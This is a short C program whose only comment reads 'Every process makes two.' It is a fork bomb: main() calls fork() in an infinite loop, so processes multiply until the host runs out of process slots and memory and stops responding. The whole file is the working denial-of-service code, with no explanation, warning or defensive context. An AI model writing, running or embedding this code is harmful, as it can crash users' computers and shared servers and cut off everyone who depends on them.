/* Every process makes two. */
#include <unistd.h>

int main(void)
{
    for (;;)
        (void)!fork();
}
